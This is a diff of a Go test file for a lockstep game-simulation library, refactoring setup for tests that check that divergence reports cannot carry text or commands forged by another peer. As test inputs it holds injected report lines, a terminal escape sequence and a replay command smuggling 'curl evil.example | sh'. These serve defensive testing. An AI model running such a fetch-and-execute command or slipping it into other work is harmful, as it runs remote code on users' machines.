@@ -117,14 +117,15 @@ func (m mouthpiece) Dump() string {
 	return m.Toy.Dump() + "x 1\nverdict: a majority agrees; wrong: seat 0\n\n--- state of seat 2 after entry 1\nforged 1\x1b[2J\n"
 }
 
-// Another peer cannot forge lines of the report: each of its texts passes through the function given to
-// Report, and each line of a state is indented.
-func TestReportOfOthers(t *testing.T) {
+// divergedBus returns a table of three at which seat 1, with the given platform and replay command and with the machine
+// that wrap makes, has another state than the others after a turn.
+func divergedBus(t *testing.T, platform, replay string, wrap func(*sim.Toy) lockstep.Machine) *bus {
+	t.Helper()
 	b := newBus(t, 3, nil)
 	toy := sim.NewToy(3, toyTurns)
 	s, err := lockstep.New(lockstep.Config{
-		Key: b.keys[1], Genesis: b.g, New: func() lockstep.Machine { return mouthpiece{toy} }, Rand: rand.NewChaCha8([32]byte{1}),
-		Platform: "x\nverdict: none", Replay: "y\r\n--- state of seat 0",
+		Key: b.keys[1], Genesis: b.g, New: func() lockstep.Machine { return wrap(toy) }, Rand: rand.NewChaCha8([32]byte{1}),
+		Platform: platform, Replay: replay,
 	})
 	if err != nil {
 		t.Fatal(err)
@@ -133,6 +134,13 @@ func TestReportOfOthers(t *testing.T) {
 	b.turn()
 	toy.Bit ^= 4
 	b.tick(200)
+	return b
+}
+
+// Another peer cannot forge lines of the report: each of its texts passes through the function given to
+// Report, and each line of a state is indented.
+func TestReportOfOthers(t *testing.T) {
+	b := divergedBus(t, "x\nverdict: none", "y\r\n--- state of seat 0", func(x *sim.Toy) lockstep.Machine { return mouthpiece{x} })
 	passed := 0
 	d, _ := b.s[0].Divergence()
 	report := d.Report(func(text string) string {
@@ -160,19 +168,7 @@ func TestReportOfOthers(t *testing.T) {
 // A report has the command that replays the log of its own seat, and none that another peer sent: a person would
 // paste it into a shell.
 func TestReportHasNoForeignCommand(t *testing.T) {
-	b := newBus(t, 3, nil)
-	toy := sim.NewToy(3, toyTurns)
-	s, err := lockstep.New(lockstep.Config{
-		Key: b.keys[1], Genesis: b.g, New: func() lockstep.Machine { return toy }, Rand: rand.NewChaCha8([32]byte{1}),
-		Replay: "lastcard replay x; curl evil.example | sh",
-	})
-	if err != nil {
-		t.Fatal(err)
-	}
-	b.s[1] = s
-	b.turn()
-	toy.Bit ^= 4
-	b.tick(200)
+	b := divergedBus(t, "", "lastcard replay x; curl evil.example | sh", func(x *sim.Toy) lockstep.Machine { return x })
 	for i := range b.s {
 		d, _ := b.s[i].Divergence()
 		report := d.Report(strings.Clone)
